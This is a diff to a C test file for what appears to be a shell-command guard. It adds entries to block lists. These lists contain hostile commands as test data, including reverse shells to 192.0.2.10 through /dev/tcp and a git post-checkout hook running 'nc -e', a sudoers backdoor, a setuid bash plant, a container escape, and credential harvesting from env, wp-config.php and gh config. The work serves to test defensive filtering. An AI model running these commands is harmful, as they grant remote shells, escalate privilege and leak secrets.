@@ -624,7 +624,8 @@ Test(families, container_escapes_and_planted_payloads)
 		"nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
 		"echo 'cp /bin/bash /tmp/b; chmod +s /tmp/b' >> /usr/local/bin/backup.sh",
 		"printf 'bash -i >& /dev/tcp/192.0.2.10/9001 0>&1\\n' >> /opt/jobs/nightly.sh",
-		"echo 'dev ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/dev");
+		"echo 'dev ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers.d/dev",
+		"echo '#!/bin/sh\\nnc -e /bin/sh 192.0.2.10 9001' > .git/hooks/post-checkout");
 	REVIEWS("gcc -fPIC -shared -nostartfiles -o /tmp/pe.so pe.c");
 	ALLOW_ALL(
 		"docker run --rm -v \"$PWD\":/app -w /app node:20 npm test",
@@ -648,11 +649,16 @@ Test(families, credentials_in_files_and_memory)
 		"find . -name '*.php' -print0 | xargs -0 grep -i -n 'var $password'",
 		"grep -E 'password|pwd' -r /etc 2>/dev/null",
 		"cat /var/www/html/wp-config.php",
-		"find /var/www -name wp-config.php -exec cat {} \\;");
+		"find /var/www -name wp-config.php -exec cat {} \\;",
+		"env | grep -i key",
+		"printenv | grep -i token");
+	BLOCKS("cat ~/.config/gh/hosts.yml");
 	ALLOW_ALL(
 		"grep -rn TODO src/",
 		"ps aux | grep pwd",
 		"grep -n password_reset app/routes.py",
+		"env | grep -i path",
+		"printenv | grep LANG",
 		"cat /var/www/html/index.html",
 		"find /home -name .rhosts -print0 | xargs -0 rm",
 		"dd if=/dev/zero of=disk.img bs=1M count=16");
